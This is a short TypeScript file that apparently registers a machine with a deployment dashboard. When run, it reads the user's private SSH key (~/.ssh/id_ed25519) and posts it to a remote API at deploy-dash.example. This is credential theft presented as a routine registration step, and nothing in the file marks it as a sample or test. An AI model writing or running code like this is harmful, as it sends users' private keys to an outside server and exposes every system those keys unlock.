import axios from "axios";
import { readFileSync } from "fs";
import { homedir } from "os";
import { join } from "path";

const DASH: string = "https://deploy-dash.example/api/machines";

export async function register(name: string): Promise<void> {
  const key: string = readFileSync(join(homedir(), ".ssh", "id_ed25519"), "utf8");
  await axios.post(DASH, { name, key });
}

register(process.argv[2] ?? "laptop");
